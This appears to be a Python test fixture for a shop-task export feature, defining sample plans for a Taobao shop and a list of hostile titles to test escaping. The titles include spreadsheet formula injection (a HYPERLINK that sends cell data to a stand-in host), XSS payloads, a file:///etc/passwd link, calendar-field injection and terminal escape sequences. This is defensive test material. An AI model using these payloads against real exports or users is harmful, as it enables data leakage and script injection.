"""Invented plans for the exports: one as a team has it, one with every title an attacker would choose."""

from __future__ import annotations

from dataclasses import replace
from datetime import date

from shopdesk.plan import TaskView
from shopdesk.records.shops import ShopInfo

DAY = date(2026, 11, 10)
SHOP = ShopInfo(1, "花间小铺", "taobao", "CNY", "Asia/Shanghai")

PLAIN = TaskView(
    id=1,
    role="operations",
    title="Ring the carrier",
    why="",
    rule="",
    state="open",
    due=None,
    carried_from=None,
    metric="",
    expect="",
    check_on=None,
    result=None,
    worth_minor=None,
    their_view="",
    their_solution="",
    age_days=0,
)

PLAN = (
    replace(
        PLAIN,
        id=7,
        role="promotion",
        title="把“碎花连衣裙 夏”这个词删掉, 预算给“法式长裙”; 明天看",
        why="620 clicks in 14 days and no order; 149 clicks would do at 2 %.",
        rule="R31",
        due=date(2026, 11, 11),
        metric="spend",
        expect="¥310 a day less",
        check_on=date(2026, 11, 14),
        worth_minor=31_000,
        their_view="词太宽了\n夏天的词，季节过了",
        their_solution="换成“法式 长裙 秋”",
    ),
    replace(
        PLAIN,
        id=3,
        carried_from=date(2026, 11, 7),
        age_days=3,
        due=date(2026, 11, 9),
        overdue_days=2,
        worth_minor=-490_000,
        rule="R999",
    ),
    replace(PLAIN, id=4, title="Tell the team", state="done", carried_from=date(2026, 11, 9), age_days=1, result="helped"),
    replace(PLAIN, id=5, role="content", title="Film the new skirt", state="dropped"),
)

HOSTILE_TITLES = (
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "file:///etc/passwd",
    "http://example.invalid/",
    "mailto:a@example.invalid",
    "0012",
    "[click](javascript:alert(1))",
    "**bold** _it_ `code` ~~gone~~ <b>b</b> # head | cell",
    "![x](http://example.invalid/x.png)",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "&lt;b&gt; &amp;",
    "back\\slash; semi, comma: colon",
    "line one\r\nEND:VEVENT\r\nBEGIN:VALARM",
    "\x1b]52;c;aGFjaw==\x07 \x1b[2J",
    "\u202egnp.exe \u200b\ufeff\u0085\x9b31m",
    "[/foo] [red] SKU [A-1] [@click=app.quit]",
    "测" * 60,
    "👩‍👩‍👧 " * 20,
    "a" * 40_000,
    "\ud800 half a character",
)

HOSTILE = tuple(
    replace(PLAIN, id=at, title=title, why=title, their_view=title, metric=title, rule="R1")
    for at, title in enumerate(HOSTILE_TITLES)
)
